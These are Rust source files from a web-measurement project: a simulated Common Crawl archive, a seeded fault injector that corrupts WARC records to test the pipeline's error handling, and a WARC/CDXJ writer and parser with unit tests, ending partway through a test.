        ((crate::snapshots::UNIVERSE as f64) * self.scale).round().max(1.0) as usize
    }
}

/// One CDX index entry: where to find one archived page.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct CdxEntry {
    pub url: String,
    pub domain_id: u64,
    pub snapshot: Snapshot,
    pub page_index: usize,
    /// MIME type recorded by the crawler (always HTML here; the study's
    /// 2015 cut-off exists because older crawls lacked this field).
    pub mime: &'static str,
}

/// A fetched WARC-like record.
#[derive(Debug, Clone)]
pub struct WarcRecord {
    pub url: String,
    pub snapshot: Snapshot,
    pub body: Vec<u8>,
}

/// The archive: ranked universe + profile model + generator.
pub struct Archive {
    pub cfg: CorpusConfig,
    pub model: ProfileModel,
    domains: Vec<RankedDomain>,
}

impl Archive {
    /// Build the archive: solves the calibration and simulates the Tranco
    /// selection. Cost is O(universe), a few milliseconds at full scale.
    pub fn new(cfg: CorpusConfig) -> Self {
        let cal = calibration::solve();
        let model = ProfileModel::new(cfg.seed, cal);
        let domains = tranco::build_top_list(cfg.seed, cfg.universe_size());
        Archive { cfg, model, domains }
    }

    /// The overall top list (the study's 24,915-domain universe, scaled).
    pub fn domains(&self) -> &[RankedDomain] {
        &self.domains
    }

    /// Figure-6 step (1): query the CDX index for a domain in a snapshot.
    /// `None` when the domain has no entry in that crawl (ad/API domains,
    /// or simply not captured that year). At most 100 pages per domain, as
    /// in the study.
    pub fn cdx_lookup(&self, domain: &RankedDomain, snap: Snapshot) -> Option<DomainCdx> {
        let ds = self.model.domain_snapshot(domain, snap)?;
        let pages = (0..ds.page_count.min(100))
            .map(|i| CdxEntry {
                url: htmlgen::page_url(&ds.domain_name, i),
                domain_id: domain.id,
                snapshot: snap,
                page_index: i,
                mime: "text/html",
            })
            .collect();
        Some(DomainCdx { snapshot: ds, pages })
    }

    /// Figure-6 step (2): fetch one record body.
    pub fn fetch(&self, entry: &CdxEntry) -> WarcRecord {
        let domain = self
            .domains
            .iter()
            .find(|d| d.id == entry.domain_id)
            .expect("entry must come from this archive");
        let ds =
            self.model.domain_snapshot(domain, entry.snapshot).expect("entry implies presence");
        let body = htmlgen::generate_page_bytes(self.cfg.seed, &ds, entry.page_index);
        WarcRecord { url: entry.url.clone(), snapshot: entry.snapshot, body }
    }

    /// Fetch directly from a `DomainCdx` (avoids the domain lookup when
    /// the caller already holds the snapshot view — the pipeline's path).
    pub fn fetch_page(&self, ds: &DomainSnapshot, page_index: usize) -> Vec<u8> {
        htmlgen::generate_page_bytes(self.cfg.seed, ds, page_index)
    }
}

/// CDX answer for one (domain, snapshot): the latent snapshot view plus the
/// page entries.
#[derive(Debug, Clone)]
pub struct DomainCdx {
    pub snapshot: DomainSnapshot,
    pub pages: Vec<CdxEntry>,
}

#[cfg(test)]
mod tests {
    use super::*;

    fn small_archive() -> Archive {
        Archive::new(CorpusConfig { seed: 42, scale: 0.01 })
    }

    #[test]
    fn universe_scales() {
        let a = small_archive();
        assert_eq!(a.domains().len(), 249);
        let full = CorpusConfig { seed: 1, scale: 1.0 };
        assert_eq!(full.universe_size(), 24_915);
    }

    #[test]
    fn cdx_and_fetch_roundtrip() {
        let a = small_archive();
        let snap = Snapshot::ALL[7];
        let mut found = 0;
        for d in a.domains().iter().take(50) {
            if let Some(cdx) = a.cdx_lookup(d, snap) {
                found += 1;
                assert!(!cdx.pages.is_empty());
                assert!(cdx.pages.len() <= 100);
                let rec = a.fetch(&cdx.pages[0]);
                assert!(!rec.body.is_empty());
                assert!(rec.url.contains(&d.name));
            }
        }
        assert!(found > 30, "most top domains should be archived, got {found}");
    }

    #[test]
    fn fetch_is_deterministic() {
        let a = small_archive();
        let b = small_archive();
        let snap = Snapshot::ALL[2];
        let d = &a.domains()[0];
        let ca = a.cdx_lookup(d, snap).unwrap();
        let cb = b.cdx_lookup(d, snap).unwrap();
        assert_eq!(ca.pages.len(), cb.pages.len());
        assert_eq!(a.fetch(&ca.pages[1]).body, b.fetch(&cb.pages[1]).body);
    }

    #[test]
    fn different_seeds_differ() {
        let a = Archive::new(CorpusConfig { seed: 1, scale: 0.01 });
        let b = Archive::new(CorpusConfig { seed: 2, scale: 0.01 });
        // Same interface, different web.
        let da = &a.domains()[0];
        let db = &b.domains()[0];
        let pa = a.cdx_lookup(da, Snapshot::ALL[0]);
        let pb = b.cdx_lookup(db, Snapshot::ALL[0]);
        // At minimum the page bodies differ.
        if let (Some(ca), Some(cb)) = (pa, pb) {
            assert_ne!(a.fetch(&ca.pages[0]).body, b.fetch(&cb.pages[0]).body);
        }
    }

    #[test]
    fn mime_type_is_html() {
        let a = small_archive();
        let cdx = a
            .domains()
            .iter()
            .find_map(|d| a.cdx_lookup(d, Snapshot::ALL[5]))
            .expect("some domain present");
        assert!(cdx.pages.iter().all(|p| p.mime == "text/html"));
    }
}
