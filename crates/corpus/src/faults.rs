//! Seeded, purely deterministic fault injection for the archive/WARC read
//! path.
//!
//! Eight years of Common Crawl contain every way a record can be bad:
//! truncated WARC members, corrupt gzip streams, mojibake bodies, CDX lines
//! mangled by the indexer, and plain transient I/O weather. A measurement
//! that only handles the happy path silently skews its aggregates the first
//! time a poisoned record kills a worker. This module synthesizes all of
//! those failure modes as a **pure function of `(seed, page identity)`** —
//! no RNG state, no clocks — so a faulted scan is exactly as reproducible
//! as a clean one: the same seed and rate always poison the same pages in
//! the same way, at any thread count and in any execution order.
//!
//! The injector wraps a fetch attempt ([`FaultPlan::apply`]): read-layer
//! faults (malformed CDX metadata, transient I/O, truncated WARC records)
//! surface as structured errors, while content-layer faults (fake gzip
//! members, invalid UTF-8, oversized bodies) corrupt the returned bytes and
//! are caught by the pipeline's own guards — the same detection paths real
//! corruption would take. Truncation is injected by round-tripping the body
//! through a real WARC record and cutting it short, so the reported
//! [`WarcError`] comes from the production parser, not from an oracle.

use crate::rng;
use crate::warc::{self, WarcError};

/// Key-part namespaces for the deterministic draws.
mod key {
    pub const GATE: u64 = 0xFA_01;
    pub const CLASS: u64 = 0xFA_02;
    pub const TRANSIENT: u64 = 0xFA_03;
    pub const CUT: u64 = 0xFA_04;
    pub const UTF8_POS: u64 = 0xFA_05;
    pub const GARBAGE: u64 = 0xFA_06;
}

/// The injectable failure modes, mirroring what a longitudinal Common Crawl
/// measurement actually encounters.
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord)]
pub enum FaultClass {
    /// The CDX index line for the page is unparseable — the record cannot
    /// even be located.
    MalformedCdx,
    /// The read fails with a retryable I/O error for the first N attempts.
    TransientIo,
    /// The WARC record is cut short (Content-Length overruns the bytes).
    TruncatedRecord,
    /// The record body is a corrupt compressed member instead of HTML.
    CorruptCompression,
    /// Invalid UTF-8 bytes are spliced into the body (mojibake).
    InvalidUtf8,
    /// The body is inflated past any sane byte budget.
    OversizedBody,
}

impl FaultClass {
    pub const ALL: [FaultClass; 6] = [
        FaultClass::MalformedCdx,
        FaultClass::TransientIo,
        FaultClass::TruncatedRecord,
        FaultClass::CorruptCompression,
        FaultClass::InvalidUtf8,
        FaultClass::OversizedBody,
    ];

    pub fn as_str(&self) -> &'static str {
        match self {
            FaultClass::MalformedCdx => "malformed-cdx",
            FaultClass::TransientIo => "transient-io",
            FaultClass::TruncatedRecord => "truncated-record",
            FaultClass::CorruptCompression => "corrupt-compression",
            FaultClass::InvalidUtf8 => "invalid-utf8",
            FaultClass::OversizedBody => "oversized-body",
        }
    }
}

impl std::fmt::Display for FaultClass {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        f.write_str(self.as_str())
    }
}

/// Stable identity of one page in the corpus — the injector's entire input
/// besides the plan. Built from facts that do not depend on scan order.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct PageKey {
    pub domain_id: u64,
    pub snapshot_index: u64,
    pub page_index: u64,
}

impl PageKey {
    fn parts(&self, ns: u64) -> [u64; 4] {
        [ns, self.domain_id, self.snapshot_index, self.page_index]
    }
}

/// One planned fault for one page.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct Fault {
    pub class: FaultClass,
    /// For [`FaultClass::TransientIo`]: the number of attempts that fail
    /// before a read succeeds (1..=4 — with a 3-attempt retry policy, half
    /// of transient faults recover and half exhaust into quarantine).
    pub transient_failures: u32,
}

/// A read-layer fault raised by [`FaultPlan::apply`].
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum FetchFault {
    /// The page's CDX metadata is unusable; not retryable.
    MalformedCdx,
    /// A retryable I/O error — the next attempt may succeed.
    Transient,
    /// The WARC record failed to parse (from the real parser); not
    /// retryable — corruption is deterministic.
    Warc(WarcError),
}

impl std::fmt::Display for FetchFault {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        match self {
            FetchFault::MalformedCdx => write!(f, "malformed CDX line"),
            FetchFault::Transient => write!(f, "transient I/O error"),
            FetchFault::Warc(e) => write!(f, "WARC read failed: {e}"),
        }
    }
}

/// The fault schedule: which pages get which fault, as a pure function of
/// `(seed, page key)`. `Copy`, so it travels inside `ScanOptions`.
#[derive(Debug, Clone, Copy, PartialEq)]
pub struct FaultPlan {
    pub seed: u64,
    /// Fraction of pages faulted, in `[0, 1]`.
    pub rate: f64,
}

impl FaultPlan {
    pub fn new(seed: u64, rate: f64) -> Result<FaultPlan, String> {
        if !(0.0..=1.0).contains(&rate) {
            return Err(format!("fault rate must be in [0, 1], got {rate}"));
        }
        Ok(FaultPlan { seed, rate })
    }

    /// Parse the CLI form `<seed>:<rate>`, e.g. `7:0.1`.
    pub fn parse(spec: &str) -> Result<FaultPlan, String> {
        let (seed, rate) =
            spec.split_once(':').ok_or_else(|| format!("expected <seed>:<rate>, got {spec:?}"))?;
        let seed: u64 = seed.parse().map_err(|_| format!("bad fault seed {seed:?}"))?;
        let rate: f64 = rate.parse().map_err(|_| format!("bad fault rate {rate:?}"))?;
        FaultPlan::new(seed, rate)
    }

    /// The CLI form back: `seed:rate`.
    pub fn render(&self) -> String {
        format!("{}:{}", self.seed, self.rate)
    }

    /// The fault planned for a page, if any. Deterministic: equal inputs,
    /// equal answer, forever.
    pub fn fault_for(&self, page: PageKey) -> Option<Fault> {
        if !rng::chance(self.seed, &page.parts(key::GATE), self.rate) {
            return None;
        }
        let class =
            FaultClass::ALL[rng::below(self.seed, &page.parts(key::CLASS), FaultClass::ALL.len())];
        let transient_failures = rng::range(self.seed, &page.parts(key::TRANSIENT), 1, 4) as u32;
        Some(Fault { class, transient_failures })
    }

    /// Wrap one fetch attempt. `clean` produces the true record body and is
    /// only invoked when the planned fault (if any) lets bytes through;
    /// `attempt` is 1-based; `byte_budget` sizes the oversized-body fault
    /// so it always trips the pipeline's guard.
    ///
    /// Read-layer faults come back as [`FetchFault`]s; content-layer faults
    /// return corrupted bytes for the pipeline's own detectors to catch.
    pub fn apply(
        &self,
        page: PageKey,
        attempt: u32,
        byte_budget: usize,
        clean: impl FnOnce() -> Vec<u8>,
    ) -> Result<Vec<u8>, FetchFault> {
        let Some(fault) = self.fault_for(page) else { return Ok(clean()) };
        match fault.class {
            FaultClass::MalformedCdx => Err(FetchFault::MalformedCdx),
            FaultClass::TransientIo => {
                if attempt <= fault.transient_failures {
                    Err(FetchFault::Transient)
                } else {
                    Ok(clean())
                }
            }
            FaultClass::TruncatedRecord => Err(FetchFault::Warc(self.truncate(page, clean()))),
            FaultClass::CorruptCompression => Ok(self.corrupt_gzip(page)),
            FaultClass::InvalidUtf8 => Ok(self.splice_invalid_utf8(page, clean())),
            FaultClass::OversizedBody => Ok(Self::inflate(clean(), byte_budget)),
        }
    }

    /// Round-trip the body through a real WARC record, cut the record
    /// short at a seeded position, and return the production parser's
    /// verdict — always an error, because the cut always removes content.
    fn truncate(&self, page: PageKey, body: Vec<u8>) -> WarcError {
        let mut buf = Vec::new();
        let mut w = warc::WarcWriter::new(&mut buf);
        w.write_response("urn:hv:faulted", "2020-01-20T00:00:00Z", &body)
            .expect("Vec<u8> writes are infallible");
        // The record is header + content + trailing CRLFCRLF; any cut below
        // len-4 removes declared content, so parse_record must fail.
        let cut_below = buf.len().saturating_sub(4).max(1);
        let cut = rng::below(self.seed, &page.parts(key::CUT), cut_below);
        match warc::parse_record(&buf[..cut]) {
            Err(e) => e,
            Ok(_) => WarcError::Truncated { need: buf.len(), have: cut },
        }
    }

    /// A fake corrupt gzip member: the magic bytes followed by seeded
    /// garbage that is not a valid deflate stream.
    fn corrupt_gzip(&self, page: PageKey) -> Vec<u8> {
        let mut g = rng::KeyedRng::new(self.seed, &page.parts(key::GARBAGE));
        let mut out = vec![0x1f, 0x8b, 0x08, 0x00];
        for _ in 0..60 {
            out.push((g.next_u64() & 0xFF) as u8);
        }
        out
    }

    /// Splice a hard-invalid UTF-8 sequence (0xFF can appear in no valid
    /// encoding) at a seeded position.
    fn splice_invalid_utf8(&self, page: PageKey, mut body: Vec<u8>) -> Vec<u8> {
        let pos = rng::below(self.seed, &page.parts(key::UTF8_POS), body.len().max(1) + 1)
            .min(body.len());
        body.splice(pos..pos, [0xFF, 0xFE, 0xFD]);
        body
    }

    /// Inflate the body just past the byte budget by cycling its own bytes
    /// (or a filler comment when empty).
    fn inflate(mut body: Vec<u8>, byte_budget: usize) -> Vec<u8> {
        let pattern: Vec<u8> =
            if body.is_empty() { b"<!-- oversized -->".to_vec() } else { body.clone() };
        let target = byte_budget + 1 + pattern.len();
        body.reserve(target.saturating_sub(body.len()));
        while body.len() <= byte_budget {
            body.extend_from_slice(&pattern);
        }
        body
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    const BUDGET: usize = 1 << 20;

    fn keys(n: u64) -> impl Iterator<Item = PageKey> {
        (0..n).map(|i| PageKey { domain_id: i * 7 + 1, snapshot_index: i % 8, page_index: i % 100 })
    }

    #[test]
    fn schedule_is_deterministic() {
        let plan = FaultPlan::new(42, 0.3).unwrap();
        for k in keys(500) {
            assert_eq!(plan.fault_for(k), plan.fault_for(k));
        }
    }

    #[test]
    fn rate_bounds_faults() {
        let none = FaultPlan::new(1, 0.0).unwrap();
        let all = FaultPlan::new(1, 1.0).unwrap();
        assert!(keys(300).all(|k| none.fault_for(k).is_none()));
        assert!(keys(300).all(|k| all.fault_for(k).is_some()));
        let some = FaultPlan::new(1, 0.1).unwrap();
        let hits = keys(10_000).filter(|&k| some.fault_for(k).is_some()).count();
        assert!((800..1200).contains(&hits), "10% rate drew {hits}/10000");
    }

    #[test]
    fn all_classes_appear() {
        let plan = FaultPlan::new(9, 1.0).unwrap();
        let mut seen = std::collections::BTreeSet::new();
        for k in keys(300) {
            seen.insert(plan.fault_for(k).unwrap().class);
        }
        assert_eq!(seen.len(), FaultClass::ALL.len(), "missing classes: {seen:?}");
    }

    #[test]
    fn truncation_always_errors_via_real_parser() {
        let plan = FaultPlan::new(3, 1.0).unwrap();
        let mut checked = 0;
        for k in keys(400) {
            if plan.fault_for(k).unwrap().class != FaultClass::TruncatedRecord {
                continue;
            }
            let err = plan.truncate(k, b"<p>hello truncation</p>".to_vec());
            // Any structured WarcError is fine; it must just *be* one.
            let _ = err.to_string();
            checked += 1;
        }
        assert!(checked > 20, "only {checked} truncation draws");
    }

    #[test]
    fn invalid_utf8_fault_defeats_decoding() {
        let plan = FaultPlan::new(4, 1.0).unwrap();
        for k in keys(50) {
            let body = plan.splice_invalid_utf8(k, b"<p>clean</p>".to_vec());
            assert!(std::str::from_utf8(&body).is_err());
        }
    }

    #[test]
    fn oversized_fault_exceeds_budget() {
        let small = 4096;
        let body = FaultPlan::inflate(b"<p>x</p>".to_vec(), small);
        assert!(body.len() > small);
        assert!(body.len() < small + 64, "inflation should stop just past the budget");
        assert!(FaultPlan::inflate(Vec::new(), small).len() > small);
    }

    #[test]
    fn corrupt_gzip_has_magic() {
        let plan = FaultPlan::new(5, 1.0).unwrap();
        let body = plan.corrupt_gzip(keys(1).next().unwrap());
        assert_eq!(&body[..2], &[0x1f, 0x8b]);
    }

    #[test]
    fn transient_recovers_after_planned_failures() {
        let plan = FaultPlan::new(6, 1.0).unwrap();
        let mut recovered = 0;
        for k in keys(200) {
            let fault = plan.fault_for(k).unwrap();
            if fault.class != FaultClass::TransientIo {
                continue;
            }
            for attempt in 1..=fault.transient_failures {
                assert_eq!(plan.apply(k, attempt, BUDGET, Vec::new), Err(FetchFault::Transient));
            }
            let ok = plan.apply(k, fault.transient_failures + 1, BUDGET, || b"ok".to_vec());
            assert_eq!(ok, Ok(b"ok".to_vec()));
            recovered += 1;
        }
        assert!(recovered > 10);
    }

    #[test]
    fn clean_pages_pass_through_untouched() {
        let plan = FaultPlan::new(7, 0.0).unwrap();
        let k = keys(1).next().unwrap();
        assert_eq!(plan.apply(k, 1, BUDGET, || b"<p>x</p>".to_vec()), Ok(b"<p>x</p>".to_vec()));
    }

    #[test]
    fn parse_and_render_roundtrip() {
        let plan = FaultPlan::parse("7:0.25").unwrap();
        assert_eq!(plan, FaultPlan { seed: 7, rate: 0.25 });
        assert_eq!(FaultPlan::parse(&plan.render()).unwrap(), plan);
        assert!(FaultPlan::parse("7").is_err());
        assert!(FaultPlan::parse("x:0.5").is_err());
        assert!(FaultPlan::parse("7:1.5").is_err());
        assert!(FaultPlan::parse("7:-0.1").is_err());
    }
}
