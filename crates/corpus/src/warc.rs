//! WARC/1.0 + CDXJ on-disk format.
//!
//! The virtual archive serves the pipeline directly, but interoperability
//! with real Common Crawl tooling needs real files: this module writes
//! snapshots as standard WARC response records with embedded HTTP
//! responses, indexed by CDXJ lines (SURT key, 14-digit timestamp, JSON
//! payload with offset/length) — the same layout CC's `cc-index` serves —
//! and reads them back by (offset, length) exactly like a ranged S3 fetch.

use crate::archive::Archive;
use crate::snapshots::Snapshot;
use std::fmt::Write as _;
use std::io::{self, Read, Seek, SeekFrom, Write};
use std::path::{Path, PathBuf};

/// One CDXJ index line.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct CdxjLine {
    /// SURT-form URL key, e.g. `com,example)/page/1.html`.
    pub surt: String,
    /// 14-digit timestamp (YYYYMMDDhhmmss).
    pub timestamp: String,
    pub url: String,
    pub mime: String,
    pub status: u16,
    /// Byte offset of the record in the WARC file.
    pub offset: u64,
    /// Byte length of the record (through the trailing CRLFCRLF).
    pub length: u64,
}

impl CdxjLine {
    /// Render the CDXJ text line.
    pub fn render(&self) -> String {
        format!(
            "{} {} {{\"url\": \"{}\", \"mime\": \"{}\", \"status\": \"{}\", \"offset\": \"{}\", \"length\": \"{}\"}}",
            self.surt, self.timestamp, self.url, self.mime, self.status, self.offset, self.length
        )
    }

    /// Parse a CDXJ line (as rendered by [`CdxjLine::render`]).
    pub fn parse(line: &str) -> Option<CdxjLine> {
        let (surt, rest) = line.split_once(' ')?;
        let (timestamp, json) = rest.split_once(' ')?;
        let field = |key: &str| -> Option<String> {
            let pat = format!("\"{key}\": \"");
            let start = json.find(&pat)? + pat.len();
            let end = json[start..].find('"')? + start;
            Some(json[start..end].to_owned())
        };
        Some(CdxjLine {
            surt: surt.to_owned(),
            timestamp: timestamp.to_owned(),
            url: field("url")?,
            mime: field("mime")?,
            status: field("status")?.parse().ok()?,
            offset: field("offset")?.parse().ok()?,
            length: field("length")?.parse().ok()?,
        })
    }
}

/// SURT (Sort-friendly URI Reordering Transform) of an http(s) URL:
/// `https://www.example.com/a/b` → `com,example,www)/a/b`.
pub fn surt(url: &str) -> String {
    let stripped =
        url.strip_prefix("https://").or_else(|| url.strip_prefix("http://")).unwrap_or(url);
    let (host, path) = match stripped.find('/') {
        Some(i) => (&stripped[..i], &stripped[i..]),
        None => (stripped, "/"),
    };
    let mut parts: Vec<&str> = host.split('.').collect();
    parts.reverse();
    format!("{}){}", parts.join(","), path)
}

/// Streaming WARC writer.
pub struct WarcWriter<W: Write> {
    w: W,
    offset: u64,
    serial: u64,
}

impl<W: Write> WarcWriter<W> {
    pub fn new(w: W) -> Self {
        WarcWriter { w, offset: 0, serial: 0 }
    }

    /// Write one `response` record wrapping an HTTP 200 with an HTML body.
    /// Returns (offset, length) for the CDX index.
    pub fn write_response(
        &mut self,
        url: &str,
        date_iso: &str,
        body: &[u8],
    ) -> io::Result<(u64, u64)> {
        let http_head = format!(
            "HTTP/1.1 200 OK\r\nContent-Type: text/html; charset=utf-8\r\nContent-Length: {}\r\n\r\n",
            body.len()
        );
        let content_length = http_head.len() + body.len();
        self.serial += 1;
        let mut head = String::new();
        let _ = write!(
            head,
            "WARC/1.0\r\n\
             WARC-Type: response\r\n\
             WARC-Record-ID: <urn:uuid:00000000-0000-4000-8000-{:012x}>\r\n\
             WARC-Date: {date_iso}\r\n\
             WARC-Target-URI: {url}\r\n\
             Content-Type: application/http; msgtype=response\r\n\
             Content-Length: {content_length}\r\n\r\n",
            self.serial
        );
        let start = self.offset;
        self.w.write_all(head.as_bytes())?;
        self.w.write_all(http_head.as_bytes())?;
        self.w.write_all(body)?;
        self.w.write_all(b"\r\n\r\n")?;
        let total = head.len() as u64 + content_length as u64 + 4;
        self.offset += total;
        Ok((start, total))
    }

    pub fn into_inner(self) -> W {
        self.w
    }
}

/// A record read back from a WARC file.
#[derive(Debug, Clone)]
pub struct ReadRecord {
    pub url: String,
    pub date: String,
    /// The HTML body (HTTP envelope removed).
    pub body: Vec<u8>,
}

/// Structured WARC read/parse failure. Every way a record can be bad is a
/// distinct variant, so the pipeline's quarantine layer can classify faults
/// without string matching — and the single-byte-mutation property test can
/// assert "same records or a `WarcError`, never a panic".
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum WarcError {
    /// No `\r\n\r\n` terminating the WARC header block.
    MissingWarcTerminator,
    /// The WARC header block is not valid UTF-8.
    HeaderNotUtf8,
    /// The record does not start with `WARC/1.0`.
    NotWarc,
    /// The WARC header has no (parseable) `Content-Length`.
    MissingContentLength,
    /// The declared Content-Length extends past the bytes we have.
    Truncated { need: usize, have: usize },
    /// The embedded HTTP response has no header terminator.
    MissingHttpTerminator,
    /// The index claims a record length beyond the read cap — refuse to
    /// allocate for it (a corrupt CDX length digit can claim gigabytes).
    OversizedRecord { length: u64, cap: u64 },
    /// An I/O error from the underlying stream (seek/read).
    Io(std::io::ErrorKind),
}

impl std::fmt::Display for WarcError {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        match self {
            WarcError::MissingWarcTerminator => write!(f, "missing WARC header terminator"),
            WarcError::HeaderNotUtf8 => write!(f, "non-UTF-8 WARC header"),
            WarcError::NotWarc => write!(f, "not a WARC/1.0 record"),
            WarcError::MissingContentLength => write!(f, "missing Content-Length"),
            WarcError::Truncated { need, have } => {
                write!(f, "record truncated: Content-Length needs {need} bytes, have {have}")
            }
            WarcError::MissingHttpTerminator => write!(f, "missing HTTP terminator"),
            WarcError::OversizedRecord { length, cap } => {
                write!(f, "record length {length} exceeds the {cap}-byte read cap")
            }
            WarcError::Io(kind) => write!(f, "I/O error: {kind:?}"),
        }
    }
}

impl std::error::Error for WarcError {}

impl From<std::io::Error> for WarcError {
    fn from(e: std::io::Error) -> Self {
        WarcError::Io(e.kind())
    }
}

impl From<WarcError> for io::Error {
    fn from(e: WarcError) -> Self {
        io::Error::new(io::ErrorKind::InvalidData, e.to_string())
    }
}

/// Largest record `read_record` will buffer. Common Crawl truncates records
/// at 1 MiB; a 1 GiB cap leaves three orders of magnitude of headroom while
/// still refusing to allocate for a corrupt length field.
pub const MAX_RECORD_LENGTH: u64 = 1 << 30;

/// Read the record at (offset, length) from a seekable WARC stream — the
/// moral equivalent of an S3 ranged GET against a CC crawl segment.
pub fn read_record<R: Read + Seek>(
    r: &mut R,
    offset: u64,
    length: u64,
) -> Result<ReadRecord, WarcError> {
    if length > MAX_RECORD_LENGTH {
        return Err(WarcError::OversizedRecord { length, cap: MAX_RECORD_LENGTH });
    }
    r.seek(SeekFrom::Start(offset))?;
    let mut buf = vec![0u8; length as usize];
    r.read_exact(&mut buf)?;
    parse_record(&buf)
}

/// Parse one raw WARC record (headers + HTTP response + trailing CRLFs).
pub fn parse_record(raw: &[u8]) -> Result<ReadRecord, WarcError> {
    let head_end = find(raw, b"\r\n\r\n").ok_or(WarcError::MissingWarcTerminator)?;
    let head = std::str::from_utf8(&raw[..head_end]).map_err(|_| WarcError::HeaderNotUtf8)?;
    if !head.starts_with("WARC/1.0") {
        return Err(WarcError::NotWarc);
    }
    let mut url = String::new();
    let mut date = String::new();
    let mut content_length = None;
    for line in head.lines().skip(1) {
        if let Some((k, v)) = line.split_once(':') {
            let v = v.trim();
            match k.trim() {
                "WARC-Target-URI" => url = v.to_owned(),
                "WARC-Date" => date = v.to_owned(),
                "Content-Length" => content_length = v.parse::<usize>().ok(),
                _ => {}
            }
        }
    }
    let content_length = content_length.ok_or(WarcError::MissingContentLength)?;
    let content = raw
        .get(head_end + 4..head_end + 4 + content_length)
        .ok_or(WarcError::Truncated { need: head_end + 4 + content_length, have: raw.len() })?;
    // Strip the embedded HTTP response head.
    let http_end = find(content, b"\r\n\r\n").ok_or(WarcError::MissingHttpTerminator)?;
    Ok(ReadRecord { url, date, body: content[http_end + 4..].to_vec() })
}

fn find(haystack: &[u8], needle: &[u8]) -> Option<usize> {
    haystack.windows(needle.len()).position(|w| w == needle)
}

/// WARC-Date for a snapshot (the crawl's nominal start-of-crawl date).
pub fn snapshot_date(snap: Snapshot) -> String {
    // CC-MAIN-2015-14 ≈ late March; later crawls late January/February.
    let day = if snap.index() == 0 { "03-20" } else { "01-20" };
    format!("{}-{}T00:00:00Z", snap.year(), day)
}

/// CDX timestamp for a snapshot.
pub fn snapshot_timestamp(snap: Snapshot) -> String {
    let md = if snap.index() == 0 { "0320" } else { "0120" };
    format!("{}{}000000", snap.year(), md)
}

/// Export one snapshot of the virtual archive as `<crawl-id>.warc` +
/// `<crawl-id>.cdxj` under `dir`, limited to the first `max_domains`
/// domains. Returns the file paths and the number of records written.
pub fn export_snapshot(
    archive: &Archive,
    snap: Snapshot,
    dir: &Path,
    max_domains: usize,
) -> io::Result<(PathBuf, PathBuf, usize)> {
    std::fs::create_dir_all(dir)?;
    let warc_path = dir.join(format!("{}.warc", snap.crawl_id()));
    let cdx_path = dir.join(format!("{}.cdxj", snap.crawl_id()));
    let mut writer = WarcWriter::new(io::BufWriter::new(std::fs::File::create(&warc_path)?));
    let mut cdx_lines: Vec<CdxjLine> = Vec::new();
    let date = snapshot_date(snap);
    let ts = snapshot_timestamp(snap);
    for domain in archive.domains().iter().take(max_domains) {
        let Some(cdx) = archive.cdx_lookup(domain, snap) else { continue };
        for entry in &cdx.pages {
            let rec = archive.fetch(entry);
            let (offset, length) = writer.write_response(&rec.url, &date, &rec.body)?;
            cdx_lines.push(CdxjLine {
                surt: surt(&rec.url),
                timestamp: ts.clone(),
                url: rec.url.clone(),
                mime: "text/html".to_owned(),
                status: 200,
                offset,
                length,
            });
        }
    }
    writer.into_inner().flush()?;
    // CDX indexes are sorted by SURT key.
    cdx_lines.sort_by(|a, b| a.surt.cmp(&b.surt));
    let mut cdx_file = io::BufWriter::new(std::fs::File::create(&cdx_path)?);
    let n = cdx_lines.len();
    for line in &cdx_lines {
        writeln!(cdx_file, "{}", line.render())?;
    }
    cdx_file.flush()?;
    Ok((warc_path, cdx_path, n))
}

/// Load a CDXJ index file. Strict: any malformed line aborts the load.
pub fn load_cdxj(path: &Path) -> io::Result<Vec<CdxjLine>> {
    let text = std::fs::read_to_string(path)?;
    text.lines()
        .filter(|l| !l.trim().is_empty())
        .map(|l| {
            CdxjLine::parse(l)
                .ok_or_else(|| io::Error::new(io::ErrorKind::InvalidData, format!("bad CDXJ: {l}")))
        })
        .collect()
}

/// A malformed CDXJ index line: `(1-based line number, raw text)`.
pub type BadCdxjLine = (usize, String);

/// Load a CDXJ index file, tolerating malformed lines: good lines are
/// returned, bad ones come back as [`BadCdxjLine`]s for the caller to
/// quarantine. Real CC indices routinely contain a few mangled lines; one
/// of them must not sink the snapshot.
pub fn load_cdxj_lenient(path: &Path) -> io::Result<(Vec<CdxjLine>, Vec<BadCdxjLine>)> {
    let text = std::fs::read_to_string(path)?;
    let mut good = Vec::new();
    let mut bad = Vec::new();
    for (i, line) in text.lines().enumerate() {
        if line.trim().is_empty() {
            continue;
        }
        match CdxjLine::parse(line) {
            Some(parsed) => good.push(parsed),
            None => bad.push((i + 1, line.to_owned())),
        }
    }
    Ok((good, bad))
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::archive::CorpusConfig;

    #[test]
    fn surt_forms() {
        assert_eq!(surt("https://www.example.com/a/b"), "com,example,www)/a/b");
        assert_eq!(surt("https://alphalabs.com/"), "com,alphalabs)/");
        assert_eq!(surt("http://x.co.uk"), "uk,co,x)/");
    }

    #[test]
    fn cdxj_roundtrip() {
        let line = CdxjLine {
            surt: "com,example)/".into(),
            timestamp: "20220120000000".into(),
            url: "https://example.com/".into(),
            mime: "text/html".into(),
            status: 200,
            offset: 1234,
            length: 567,
        };
        assert_eq!(CdxjLine::parse(&line.render()), Some(line));
    }

    #[test]
    fn warc_write_read_roundtrip() {
        let mut buf = io::Cursor::new(Vec::new());
        let mut w = WarcWriter::new(&mut buf);
        let (o1, l1) =
            w.write_response("https://a.example/", "2022-01-20T00:00:00Z", b"<p>one</p>").unwrap();
        let (o2, l2) = w
            .write_response(
                "https://b.example/x",
                "2022-01-20T00:00:00Z",
                "<p>zw\u{F6}lf</p>".as_bytes(),
            )
            .unwrap();
        assert_eq!(o2, l1);
        let rec1 = read_record(&mut buf, o1, l1).unwrap();
        assert_eq!(rec1.url, "https://a.example/");
        assert_eq!(rec1.body, b"<p>one</p>");
        let rec2 = read_record(&mut buf, o2, l2).unwrap();
        assert_eq!(rec2.body, "<p>zwölf</p>".as_bytes());
